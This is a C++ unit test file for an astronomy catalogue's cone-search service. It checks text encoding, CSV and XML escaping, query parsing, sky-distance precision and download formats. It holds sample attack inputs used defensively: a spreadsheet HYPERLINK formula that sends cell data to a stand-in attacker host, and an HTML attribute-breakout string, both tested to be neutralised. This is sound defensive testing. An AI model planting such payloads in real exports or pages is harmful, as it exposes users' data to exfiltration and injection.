// The pieces of the cone search and the downloads that a reader of their output cannot
// tell apart by eye: text encoding, request parsing, distances, limits.
#include "catalogue/record.h"
#include "store/store_load.h"
#include "vo/cone.h"
#include "vo/cone_search.h"
#include "vo/csv_table.h"
#include "vo/result_formats.h"
#include "vo/sky_position.h"
#include "vo/text_encoding.h"

#include <gtest/gtest.h>

#include <cmath>
#include <cstdio>
#include <fstream>
#include <string>
#include <vector>

static const std::string bad = "\xEF\xBF\xBD"; // U+FFFD

TEST(vo_text, CleanedEscapedAndQuoted) {
    struct {
        const char* text;
        std::string cleaned, xml, csv;
    } cases[] = {
        {"NGC 4486", "NGC 4486", "NGC 4486", "NGC 4486"},
        {"A&B <x> \"q\" 'a'", "A&B <x> \"q\" 'a'", "A&amp;B &lt;x&gt; &quot;q&quot; &apos;a&apos;",
         "\"A&B <x> \"\"q\"\" 'a'\""},
        {"Smith, J.", "Smith, J.", "Smith, J.", "\"Smith, J.\""},
        {"a\tb\r\nc", "a\tb\r\nc", "a&#9;b&#13;&#10;c", "\"a\tb\r\nc\""},
        {" padded", " padded", " padded", "\" padded\""},
        {"caf\xC3\xA9", "caf\xC3\xA9", "caf\xC3\xA9", "caf\xC3\xA9"}, // valid 2 bytes
        {"\xF0\x9F\x94\xAD", "\xF0\x9F\x94\xAD", "\xF0\x9F\x94\xAD", "\xF0\x9F\x94\xAD"}, // 4
        {"caf\xE9 x", "caf" + bad + " x", "caf" + bad + " x", "caf" + bad + " x"},        // Latin-1
        {"ab\xE2\x82", "ab" + bad + bad, "ab" + bad + bad, "ab" + bad + bad}, // cut at the end
        {"\xC0\xAF", bad + bad, bad + bad, bad + bad},                        // overlong
        {"\xED\xA0\x80", bad + bad + bad, bad + bad + bad, bad + bad + bad},  // surrogate
        {"\xEF\xBF\xBE", bad + bad + bad, bad + bad + bad, bad + bad + bad},  // U+FFFE
        {"\xF4\x90\x80\x80", bad + bad + bad + bad, bad + bad + bad + bad,
         bad + bad + bad + bad}, // above U+10FFFF
        {"a\x01"
         "b\x1F",
         "a" + bad + "b" + bad, "a" + bad + "b" + bad, "a" + bad + "b" + bad},
        {"", "", "", ""},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.text);
        std::string cleaned = utf8_cleaned(c.text);
        EXPECT_EQ(cleaned, c.cleaned);
        EXPECT_EQ(xml_escaped(cleaned), c.xml);
        EXPECT_EQ(csv_field(cleaned), c.csv);
    }
}

// A text a spreadsheet would compute is marked as text, wherever its spaces are; any other
// text, a minus sign inside one included, passes as it stands.
TEST(vo_text, FormulasKeptFromSpreadsheets) {
    struct {
        const char* text;
        const char* written;
    } cases[] = {
        {"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
         "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"},
        {" =2*3", "' =2*3"},
        {"+1", "'+1"},
        {"-2", "'-2"},
        {"@SUM(A1)", "'@SUM(A1)"},
        {"\tx", "'\tx"},
        {"  \rx ", "'  \rx "},
        {"NGC 4486", "NGC 4486"},
        {"J1234-0030", "J1234-0030"},
        {"a=b", "a=b"},
        {"'=1", "'=1"},
        {"   ", "   "},
        {"", ""},
    };
    for (const auto& c : cases)
        EXPECT_EQ(spreadsheet_text(c.text), c.written) << c.text;
}

TEST(vo_cone, RequestsReadAndRefused) {
    struct {
        const char* query;
        double ra, dec, sr;
        int verb;
        const char* why; // null: accepted
    } cases[] = {
        {"RA=10&DEC=20&SR=1", 10, 20, 1, 2, nullptr},
        {"ra=10.5&dec=-20.25&sr=0.5&verb=3", 10.5, -20.25, 0.5, 3, nullptr},
        {"SR=1&VERB=1&RESPONSEFORMAT=votable&DEC=0&RA=0", 0, 0, 1, 1, nullptr},
        {"RA=360&DEC=90&SR=180", 360, 90, 180, 2, nullptr},
        {"RA=0&DEC=-90&SR=0", 0, -90, 0, 2, nullptr},
        {"RA=1e1&DEC=%2B20&SR=.5&", 10, 20, 0.5, 2, nullptr},
        {"RA=10&DEC=20", 0, 0, 0, 0, "a parameter is missing: SR"},
        {"DEC=20&SR=1", 0, 0, 0, 0, "a parameter is missing: RA"},
        {"RA=1&ra=2&DEC=20&SR=1", 0, 0, 0, 0, "a parameter is given twice: RA"},
        {"RA=x&DEC=20&SR=1", 0, 0, 0, 0, "a parameter is not a number: RA"},
        {"RA=&DEC=20&SR=1", 0, 0, 0, 0, "a parameter is not a number: RA"},
        {"RA=1x&DEC=20&SR=1", 0, 0, 0, 0, "a parameter is not a number: RA"},
        {"RA=nan&DEC=20&SR=1", 0, 0, 0, 0, "a parameter is not a number: RA"},
        {"RA=1&DEC=inf&SR=1", 0, 0, 0, 0, "a parameter is not a number: DEC"},
        {"RA=1&DEC=%2B-2&SR=1", 0, 0, 0, 0, "a parameter is not a number: DEC"},
        {"RA=1&DEC=2&SR=1e999", 0, 0, 0, 0, "a parameter is not a number: SR"},
        {"RA=-0.001&DEC=20&SR=1", 0, 0, 0, 0, "RA must be between 0 and 360 degrees"},
        {"RA=360.001&DEC=20&SR=1", 0, 0, 0, 0, "RA must be between 0 and 360 degrees"},
        {"RA=1&DEC=90.001&SR=1", 0, 0, 0, 0, "DEC must be between -90 and 90 degrees"},
        {"RA=1&DEC=-91&SR=1", 0, 0, 0, 0, "DEC must be between -90 and 90 degrees"},
        {"RA=1&DEC=2&SR=-0.1", 0, 0, 0, 0, "SR must be between 0 and 180 degrees"},
        {"RA=1&DEC=2&SR=180.5", 0, 0, 0, 0, "SR must be between 0 and 180 degrees"},
        {"RA=1&DEC=2&SR=1&VERB=0", 0, 0, 0, 0, "VERB must be 1, 2 or 3"},
        {"RA=1&DEC=2&SR=1&VERB=2.5", 0, 0, 0, 0, "VERB must be 1, 2 or 3"},
        {"RA=%4&DEC=2&SR=1", 0, 0, 0, 0, "the query string is not well formed"},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.query);
        cone_request request;
        std::string why;
        bool read = read_cone_request(c.query, request, why);
        EXPECT_EQ(read, c.why == nullptr);
        if (!read) {
            EXPECT_EQ(why, c.why);
            continue;
        }
        EXPECT_EQ(request.where.centre.ascension, c.ra);
        EXPECT_EQ(request.where.centre.declination, c.dec);
        EXPECT_EQ(request.where.radius, c.sr);
        EXPECT_EQ(request.verb, c.verb);
    }
}

// Distances whose true value is known exactly; the tolerance is relative. The cosine form
// fails the small ones (1e-9 degrees is below its resolution), a lost sign fails those
// across a pole or across 0h.
TEST(vo_cone, DistancesKeepTheirPrecision) {
    struct {
        sky_position from, to;
        double degrees;
    } cases[] = {
        {{0, 90}, {123, 90}, 0},
        {{0, 90}, {0, 0}, 90},
        {{10, 0}, {190, 0}, 180},
        {{45, -30}, {225, 30}, 180},
        {{0, 89.9999999}, {180, 89.9999999}, 2e-7},
        {{90, -89.9999999}, {270, -89.9999999}, 2e-7},
        {{359.9999999, 0}, {0.0000001, 0}, 2e-7},
        {{0, 0}, {1e-9, 0}, 1e-9},
        {{200, 41}, {200, 41.0000000001}, 1e-10},
        {{0, 60}, {180, 60}, 60},
    };
    for (const auto& c : cases) {
        double degrees = angular_distance(c.from, c.to) / radians_per_degree;
        EXPECT_NEAR(degrees, c.degrees, 1e-6 * c.degrees + 1e-14)
            << c.from.ascension << " " << c.from.declination << " " << c.to.ascension << " "
            << c.to.declination;
    }
}

static record entry_at(double hours, double minutes, double seconds, int sign, double degrees) {
    record entry;
    entry.ascension = {hours, minutes, seconds, 1};
    entry.declination = {degrees, 0, 0, sign};
    return entry;
}

TEST(vo_cone, PositionsAsTheSelectionReadsThem) {
    struct {
        record entry;
        double ra, dec;
    } cases[] = {
        {entry_at(12, 30, 0, 1, 10), 187.5, 10},
        {entry_at(24, 0, 0, 1, 0), 0, 0}, // 24h is 0h
        {entry_at(0, 0, 36, -1, 0.5), 0.15, -0.5},
        {entry_at(23, 59, 59.99, -1, 89), 359.99995833333334, -89},
    };
    for (const auto& c : cases) {
        sky_position at = position_of(c.entry);
        EXPECT_DOUBLE_EQ(at.ascension, c.ra);
        EXPECT_EQ(at.declination, c.dec);
    }
}

TEST(vo_cone, MatchesInCatalogueOrderUpToTheLimit) {
    // Entries along the equator at right ascensions 3, 1, 2, 0 and 4 degrees (0.2h = 3 deg).
    std::string path = testing::TempDir() + "galsift-cone-order.dat";
    std::ofstream(path) << "00$12$0$+00$00$00$0$ a $r$\n00$04$0$+00$00$00$0$ b $r$\n"
                           "00$08$0$+00$00$00$0$ c $r$\n00$00$0$+00$00$00$0$ d $r$\n"
                           "00$16$0$+00$00$00$0$ e $r$\n";
    catalogue_store store;
    store_load_report report;
    ASSERT_EQ(load_store(path.c_str(), store, report), store_loaded);
    std::remove(path.c_str());
    cone around_two{{2, 0}, 1.5};
    struct {
        std::size_t limit;
        std::vector<std::size_t> expected;
        bool cut;
    } cases[] = {{0, {0, 1, 2}, false}, {3, {0, 1, 2}, false}, {2, {0, 1}, true}, {1, {0}, true}};
    for (const auto& c : cases) {
        cone_answer answer = cone_search(store, around_two, c.limit);
        std::vector<std::size_t> found;
        for (const cone_match& match : answer.matches)
            found.push_back(store.number[match.row]);
        EXPECT_EQ(found, c.expected) << c.limit;
        EXPECT_EQ(answer.cut, c.cut) << c.limit;
    }
    cone_answer answer = cone_search(store, around_two, 0);
    EXPECT_NEAR(answer.matches[0].distance, 1, 1e-12);
}

TEST(vo_results, FormatAndRowsTakenFromTheFormData) {
    struct {
        const char* data;
        bool taken;
        result_format format;
        bool all_rows;
        const char* rest;
    } cases[] = {
        {"epoch=2000&format=csv&z_max=3", true, format_csv, false, "epoch=2000&z_max=3"},
        {"format=votable&rows=all&epoch=1950", true, format_votable, true, "epoch=1950"},
        {"z_min=0.5&format=sky", true, format_sky, false, "z_min=0.5"},
        {"epoch=2000&format=html&&z_min=0", true, format_page, false, "epoch=2000&z_min=0"},
        {"epoch=2000", true, format_page, false, "epoch=2000"},
        {"", true, format_page, false, ""},
        {"epoch=2000&format=xml", false, format_page, false, ""},
        {"format=SKY", false, format_page, false, ""},
        {"format=csv&format=csv", false, format_page, false, ""},
        {"rows=10", false, format_page, false, ""},
        {"rows=all&rows=all", false, format_page, false, ""},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.data);
        std::string data = c.data, why;
        result_choice choice;
        EXPECT_EQ(take_result_choice(data, choice, why), c.taken);
        EXPECT_EQ(why.empty(), c.taken);
        if (!c.taken)
            continue;
        EXPECT_EQ(choice.format, c.format);
        EXPECT_EQ(choice.all_rows, c.all_rows);
        EXPECT_EQ(data, c.rest);
    }
}

// The links of a cut page repeat the query with the separators as HTML writes them, and
// no byte of the data can leave the attribute.
TEST(vo_results, CutNoticeLinksRepeatTheQuery) {
    std::string notice = cut_notice_text("ra_min=13+04+50&dec_min=%2B24\"><b", 10000);
    EXPECT_NE(notice.find("only the first 10000 records"), std::string::npos);
    std::string query = "results?ra_min=13+04+50&amp;dec_min=%2B24%22%3E%3Cb";
    for (const char* tail : {"&amp;format=votable\"", "&amp;format=csv\"", "&amp;rows=all\""})
        EXPECT_NE(notice.find("<a href=\"" + query + tail), std::string::npos) << tail;
}

// In the CSV download only the catalogue's texts are marked; a negative declination, as
// number and as text, and a negative redshift stay numbers.
TEST(vo_text, CsvMarksTheCatalogueTextsOnly) {
    record entry = entry_at(1, 2, 3, -1, 4);
    entry.redshift = -0.5;
    entry.identification = string(" =2*3 ");
    entry.reference = string("-Smith, J.");
    text_sink out;
    const record* first = &entry;
    put_selection_csv(out, chain_reader(&first), 2000);
    std::string rows = out.held.substr(out.held.find("\r\n") + 2);
    EXPECT_EQ(rows, "01:02:3,-04:00:0,15.5125,-4,-0.5,'=2*3,\"'-Smith, J.\"\r\n");
}
